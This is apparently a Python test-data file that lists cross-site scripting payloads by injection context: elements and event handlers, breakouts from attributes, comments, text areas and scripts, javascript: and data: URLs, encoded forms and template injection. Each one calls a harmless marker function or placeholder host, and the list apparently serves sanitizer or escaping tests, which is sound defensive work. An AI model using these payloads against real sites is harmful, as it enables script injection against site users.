"""Texts that a careless page would run: one or more for each well-known way out of text into markup and scripts."""

PAYLOADS = [
    # elements
    *(
        "<script>xq()</script>",
        "<ScRiPt>xq()</sCrIpT>",
        "<script src=//xq.example></script>",
        "<script/x>xq()</script>",
    ),
    *("<img src=x onerror=xq()>", "<img/src/onerror=xq()>", "<svg onload=xq()>", "<svg><script>xq()</script></svg>"),
    *("<body onload=xq()>", "<iframe src=javascript:xq()>", "<iframe srcdoc='<b onclick=xq()>'>", "<object data=//xq>"),
    *(
        "<embed src=//xq>",
        "<math><a xlink:href=javascript:xq()>x",
        "<video><source onerror=xq()>",
        "<audio src onerror=xq()>",
    ),
    *("<details open ontoggle=xq()>", "<marquee onstart=xq()>", "<input autofocus onfocus=xq()>", "<base href=//xq/>"),
    *("<link rel=stylesheet href=//xq>", "<meta http-equiv=refresh content=0;//xq>", "<style>@import '//xq'</style>"),
    *("<form action=//xq><button>x", "<isindex action=//xq>", "<table background=//xq>", "<x onclick=xq()>x</x>"),
    # out of an attribute, of a text area, of a title, of a comment
    *('"><script>xq()</script>', "'><script>xq()</script>", '" onfocus=xq() autofocus="', "' onfocus=xq() autofocus='"),
    *("` onfocus=xq() `", '"/onmouseover=xq()//', "</textarea><script>xq()</script>", "</title><script>xq()</script>"),
    *("--><script>xq()</script><!--", "<!--<img src='--><img src=x onerror=xq()>'>", "</style><script>xq()</script>"),
    *("</script><script>xq()</script>", "]]><script>xq()</script>", "</option></select><img src=x onerror=xq()>"),
    # in a script
    *("';xq();//", '";xq();//', "\\';xq();//", "${xq()}", "`${xq()}`", "\u2028xq()//"),
    # addresses
    *(
        "javascript:xq()",
        "JaVaScRiPt:xq()",
        "java\tscript:xq()",
        "\x01javascript:xq()",
        "data:text/html,<script>xq()</script>",
    ),
    *("vbscript:xq()", "//xq.example/", "[x](javascript:xq())", "![x](x)<img src=x onerror=xq()>"),
    # characters written otherwise, and templates
    *(
        "&lt;script&gt;xq()&lt;/script&gt;",
        "&#60;img src=x onerror=xq()&#62;",
        "%3Cscript%3Exq()%3C/script%3E",
        "\\x3cscript\\x3exq()",
    ),
    *(
        "\\u003cscript\\u003exq()",
        "＜script＞xq()＜/script＞",
        "{{ xq }}{% debug %}",
        "<%= xq %>",
        "{{constructor.constructor('xq()')()}}",
    ),
]
